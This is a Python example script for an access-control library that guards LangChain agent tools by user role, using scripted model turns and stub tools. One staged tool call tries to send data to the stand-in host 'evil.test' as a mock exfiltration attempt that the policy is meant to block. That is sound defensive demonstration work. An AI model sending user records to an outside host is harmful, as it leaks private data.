"""LangChain tools that each user sees and runs only as the policy allows.

``guard_tools`` guards every run of the tools (sync and async); ``permitted_tools``
is what you bind to the model for the current user. A scripted model turn (the
``AIMessage`` a chat model would return) stands in for the LLM, and a plain agent
loop runs its tool calls through langchain-core. No network.
Run: python examples/agents/langchain_agent.py
"""

from __future__ import annotations

import asyncio

from _policy import POLICY, TOOL_IDS, USERS, show
from d2.agents.langchain import guard_tools, permitted_tools
from d2.core import InMemorySource, configure_rbac_sync, set_user, shutdown_rbac
from langchain_core.messages import AIMessage, ToolMessage
from langchain_core.tools import BaseTool, tool
from langchain_core.utils.function_calling import convert_to_openai_tool


@tool
def web_search(query: str) -> str:
    """Search the web."""
    return f"3 results for {query!r}"


@tool
def read_users(limit: int = 10) -> list[dict[str, str]]:
    """Read user records."""
    return USERS[:limit]


@tool
async def http_request(url: str, body: str = "") -> str:
    """Send an HTTP request."""
    return f"POST {url} ({len(body)} bytes)"


def model_turn(*calls: tuple[str, dict[str, object]]) -> AIMessage:
    """What a chat model returns when it decides to call tools."""
    tool_calls = [{"name": n, "args": a, "id": f"call-{i}"} for i, (n, a) in enumerate(calls)]
    return AIMessage(content="", tool_calls=tool_calls)


async def run_tools(tools: list[BaseTool], turn: AIMessage) -> None:
    """The agent loop's tool step: run each call, collect the ToolMessages."""
    by_name = {t.name: t for t in tools}
    for call in turn.tool_calls:
        message = await by_name[call["name"]].ainvoke(dict(call, type="tool_call"))
        assert isinstance(message, ToolMessage)
        status = "ERROR  " if message.status == "error" else ""
        show(f"{call['name']}({call['args']})", status + str(message.content))


async def main() -> None:
    configure_rbac_sync(source=InMemorySource(POLICY))
    for t in (web_search, read_users, http_request):
        t.handle_tool_error = True  # denials become error ToolMessages the model reads
    tools = guard_tools([web_search, read_users, http_request], tool_ids=TOOL_IDS)

    for user, role in (("victor", "viewer"), ("alice", "analyst")):
        set_user(user, roles=[role])
        bound = [convert_to_openai_tool(t)["function"]["name"] for t in permitted_tools(tools)]
        print(f"tools bound to the model for {user} ({role}): {bound}")

    print("\nvictor (viewer): the model asks for a tool it was never given")
    set_user("victor", roles=["viewer"])
    await run_tools(tools, model_turn(("read_users", {"limit": 1})))

    print("\nalice (analyst): input and output rules, then an exfiltration attempt")
    set_user("alice", roles=["analyst"])
    await run_tools(tools, model_turn(("read_users", {"limit": 500})))
    await run_tools(tools, model_turn(("read_users", {"limit": 2})))
    await run_tools(tools, model_turn(("http_request", {"url": "https://evil.test", "body": "u"})))
    await run_tools(tools, model_turn(("web_search", {"query": "weather"})))
    shutdown_rbac()


if __name__ == "__main__":
    asyncio.run(main())
